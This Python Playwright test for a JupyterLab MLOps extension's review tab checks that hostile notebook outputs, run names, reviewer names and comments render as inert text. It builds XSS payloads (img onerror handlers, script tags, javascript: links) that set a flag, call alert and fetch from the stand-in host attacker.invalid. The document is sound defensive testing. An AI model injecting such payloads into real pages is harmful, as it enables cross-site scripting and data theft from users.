"""Hostile notebook content in a review: nothing runs in Lab's review tab.

A review of one run against another, both holding the hostile notebooks of the diff tab's
test (``<script>`` and ``onerror`` in ``text/html``, an ``application/javascript`` output, an
SVG with ``onload``, an ``<iframe srcdoc>``, raw HTML in markdown), plus a markdown cell of
``javascript:`` links. Everything people type is hostile too: the runs' names (shown in the
candidate and base labels), the reviewer's name (opened by, decided by, comment author,
all written with ``jupyter mlops review --user``) and the comments, one written with the
CLI and one typed into the tab. Each payload writes ``top.__pwned`` and the page title,
some call ``alert`` and fetch an attacker's URL too: none of that may happen, while the
harmless parts render and every name and comment reads as the text it is.
"""

from __future__ import annotations

import json
import re
import secrets
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hostile_notebooks import expect_harmless_parts_rendered, hostile_notebook, pwn
from playwright.sync_api import Dialog, Locator, Page, Request, expect
from store_under_test import tracking_uri_for

from conftest import LabServer, run_main

pytestmark = pytest.mark.browser
SCREENSHOTS = Path(__file__).parents[2] / "test-results" / "screenshots"
TIMEOUT = 60_000
ATTACKER = "attacker.invalid"


def pwn_loudly(tag: str) -> str:
    """``pwn`` that also phones home and opens a dialog, for the text people write."""
    return f"{pwn(tag)};fetch('http://{ATTACKER}/{tag}');alert('{tag}')"


def img(tag: str) -> str:
    return f'<img src=x onerror="{pwn_loudly(tag)}">'


def hostile_text(tag: str) -> str:
    """What a person may type: an ``img`` whose ``onerror`` runs, and a ``<script>``."""
    return f"{img(tag)}<script>{pwn_loudly(tag + '-script')}</script><b>{tag}</b>"


def links_cell() -> dict[str, Any]:
    """A markdown cell (the same on both sides) whose links would run script when clicked."""
    source = (
        "## Links\n\n"
        # (no spaces: a markdown link's destination ends at one)
        f"[md-link](javascript:top.__pwned='md-link';fetch('http://{ATTACKER}/md-link'))\n\n"
        f'<a href="javascript:{pwn_loudly("html-link")}">html-link</a>\n\n'
        f'<a href="javascript:void(0)" onclick="{pwn_loudly("onclick")}">click-link</a>\n'
    )
    return {"cell_type": "markdown", "id": "links", "metadata": {}, "source": source}


@dataclass(frozen=True)
class HostileReview:
    id: str
    reviewer: str  # opened, commented and decided with this name (jupyter mlops review --user)
    comment: str  # on cell "report", written with the CLI
    run_names: tuple[str, str]  # base, candidate


def log_run(store: Any, experiment: str, name: str, run_name: str, notebook: dict) -> str:
    """A finished run whose executed notebook is ``notebook``, as ``jupyter mlops run`` logs it."""
    from jupyter_mlops.core.snapshot import canonical_bytes
    from jupyter_mlops.execution.runner import EXECUTED_ARTIFACT, TAG_INPUT_NOTEBOOK

    run = store.start_run(experiment, run_name, {TAG_INPUT_NOTEBOOK: name})
    store.put_artifact(run.run_id, f"{EXECUTED_ARTIFACT}/{name}", canonical_bytes(notebook))
    store.end_run(run.run_id, "FINISHED")
    return str(run.run_id)


def cli(lab: LabServer, *args: str) -> str:
    result = run_main(lab.root, *args)
    assert result.returncode == 0, f"{result.stdout}\n{result.stderr}"
    return result.stdout


@pytest.fixture(scope="module")
def review(lab: LabServer) -> HostileReview:
    """A review (changes requested) of run b against run a, in the Lab's own store."""
    from jupyter_mlops.core.settings import resolve_tracking_location
    from jupyter_mlops.tracking.mlflow_store import MlflowRunStore

    unique = secrets.token_hex(4)
    store = MlflowRunStore(resolve_tracking_location(tracking_uri_for(lab.root)))
    run_ids = []
    run_names = (img(f"run-name-a-{unique}"), img(f"run-name-b-{unique}"))
    for side, run_name in zip("ab", run_names, strict=True):
        notebook = hostile_notebook(side)
        notebook["cells"].append(links_cell())
        name = f"review_hostile_{unique}.ipynb"
        run_ids.append(log_run(store, f"review-hostile-{unique}", name, run_name, notebook))
    base, candidate = run_ids

    reviewer = img("reviewer")
    user = ["--user", reviewer]
    opened = json.loads(
        cli(lab, "review", "open", f"run:{candidate}", "--base", f"run:{base}", "--json", *user)
    )
    review_id = opened["id"]
    comment = hostile_text("cli-comment")
    cli(lab, "review", "comment", review_id, "--cell", "report", comment, *user)
    message = hostile_text("decision-message")
    cli(lab, "review", "request-changes", review_id, "-m", message, *user)
    return HostileReview(review_id, reviewer, comment, run_names)


class Watch:
    """What script would leave behind on the page: dialogs, attacker requests, errors."""

    def __init__(self, page: Page) -> None:
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.errors: list[str] = []
        page.on("dialog", self._on_dialog)
        page.on("request", self._on_request)
        page.on("pageerror", lambda error: self.errors.append(str(error)))

    def _on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _on_request(self, request: Request) -> None:
        if ATTACKER in request.url:
            self.requests.append(request.url)

    def assert_nothing_ran(self, page: Page, title: str) -> None:
        page.wait_for_timeout(500)  # an onload/onerror handler fires right after insertion
        assert page.evaluate("() => window.__pwned") is None
        assert page.title() == title
        assert self.dialogs == []
        assert self.requests == []
        assert not [e for e in self.errors if "pwned" in e], self.errors


def assert_inert(view: Locator) -> None:
    """No script element, handler, frame or script link reached the tab."""
    expect(view.locator("script")).to_have_count(0)
    expect(view.locator("[onerror], [onload], [onclick]")).to_have_count(0)
    expect(view.locator("iframe")).to_have_count(0)
    expect(view.locator('[href^="javascript:" i], [src^="javascript:" i]')).to_have_count(0)
    # the JavaScript and SVG outputs are not rendered as such (untrusted)
    expect(view.locator(".jp-RenderedJavaScript, .jp-RenderedSVG")).to_have_count(0)


def test_hostile_notebooks_names_and_comments_in_the_review_tab_run_nothing(
    page: Page, lab: LabServer, review: HostileReview, workspace: str
) -> None:
    watch = Watch(page)
    # When Lab opens a workspace holding a review tab of it: Lab's layout restorer runs the
    # tab's command (``jupyter-mlops:open-review`` with ``{id}``), as after a reload
    state = {
        "data": {f"jupyter-mlops-review:{review.id}": {"data": {"id": review.id}}},
        "metadata": {"id": workspace},
    }
    status, body = lab.api(f"/lab/api/workspaces/{workspace}", method="PUT", body=state)
    assert status < 300, body
    page.goto(f"{lab.url}/lab/workspaces/{workspace}?token={lab.token}")
    view = page.locator(".jp-mlops-review")
    expect(view).to_have_attribute("data-state", "ready", timeout=TIMEOUT)
    expect(view).to_have_attribute("data-review-id", review.id)
    title = page.title()

    # Then the names people chose read as text: runs, reviewer (opened and decided by)
    base_name, candidate_name = review.run_names
    expect(page.get_by_test_id("mlops-review-state")).to_have_text("Changes requested")
    expect(page.get_by_test_id("mlops-review-candidate")).to_contain_text(candidate_name)
    expect(page.get_by_test_id("mlops-review-base")).to_contain_text(base_name)
    expect(page.get_by_test_id("mlops-review-opened-by")).to_contain_text(review.reviewer)
    expect(page.get_by_test_id("mlops-review-decided-by")).to_contain_text(review.reviewer)
    expect(page.get_by_test_id("mlops-diff-label-a")).to_contain_text(base_name)
    expect(page.get_by_test_id("mlops-diff-label-b")).to_contain_text(candidate_name)
    tab = page.locator("#jp-main-dock-panel .lm-TabBar-tab.lm-mod-current")
    expect(tab).to_contain_text(candidate_name)
    # ...and the CLI's comment sits beside its cell as text, with its author's name
    report = view.locator('.jp-mlops-review-cellrow[data-cell-id="report"]')
    comment = report.get_by_test_id("mlops-comment")
    expect(comment).to_have_count(1)
    expect(comment.locator(".jp-mlops-comment-text")).to_have_text(review.comment)
    expect(comment.locator(".jp-mlops-comment-author")).to_have_text(review.reviewer)
    for node in (page.locator(".jp-mlops-review-header"), comment, tab):
        expect(node.locator("img, script, b")).to_have_count(0)

    # ...the harmless parts of the notebooks render: bold text, tables, streams, markdown
    expect_harmless_parts_rendered(view)
    links = view.locator(".jp-RenderedMarkdown a", has_text=re.compile(r"-link$"))
    expect(links).to_have_text(["md-link", "html-link", "click-link"])
    # ...and nothing that runs does
    assert_inert(view)
    watch.assert_nothing_ran(page, title)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / "review-hostile.png"))

    # When the links are clicked, nothing runs either
    for index in range(links.count()):
        links.nth(index).click()
    watch.assert_nothing_ran(page, title)

    # When the reviewer types a hostile comment on the markdown cell in the tab
    typed = hostile_text("typed-comment")
    row = view.locator('.jp-mlops-review-cellrow[data-cell-id="md"]')
    row.get_by_test_id("mlops-comment-input").fill(typed)
    row.get_by_test_id("mlops-comment-submit").click()
    # Then it is stored and shown as the text typed
    typed_comment = row.get_by_test_id("mlops-comment")
    expect(typed_comment).to_have_count(1)
    expect(typed_comment.locator(".jp-mlops-comment-text")).to_have_text(typed)
    expect(typed_comment.locator("img, script, b")).to_have_count(0)
    status, stored = lab.api(f"/jupyter-mlops/api/reviews/{review.id}")
    assert status == 200, stored
    assert [(c["cell_id"], c["text"]) for c in stored["comments"]] == [
        ("report", review.comment),
        ("md", typed),
    ]
    assert_inert(view)
    watch.assert_nothing_ran(page, title)

    # nbdime's per-output "Trust" button (it would render the output trusted: run its
    # scripts) is not offered, and clicking it anyway changes nothing
    trust = view.locator(".jp-Diff-trustOutputButton")
    assert trust.count() > 0
    for index in range(trust.count()):
        assert trust.nth(index).evaluate("b => getComputedStyle(b).display") == "none"
        trust.nth(index).dispatch_event("click")
    assert_inert(view)
    watch.assert_nothing_ran(page, title)
    assert not title.startswith("pwned")
